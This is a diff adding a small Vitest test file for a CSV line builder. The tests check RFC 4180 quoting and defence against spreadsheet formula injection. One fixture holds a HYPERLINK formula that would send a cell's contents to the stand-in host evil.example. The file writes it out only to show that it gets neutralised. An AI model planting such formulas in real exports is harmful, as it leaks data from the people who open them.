@@ -1,0 +1,13 @@
+import { describe, expect, it } from 'vitest';
+import { csvLine } from './allowance-report-csv.js';
+
+describe('csvLine', () => {
+  it('when cells hold commas, quotes or newlines then they are quoted as RFC 4180 says', () => {
+    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'plain', null, 5, true])).toBe('"a,b","say ""hi""","two\nlines",plain,,5,true');
+  });
+
+  it('when a text starts like a spreadsheet formula then it gets a leading apostrophe, and numbers stay numbers', () => {
+    const cells = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', 'ERP = production', -500, 0];
+    expect(csvLine(cells)).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+1+1,'-2+3,'@SUM(A1),'\t=1,ERP = production,-500,0`);
+  });
+});
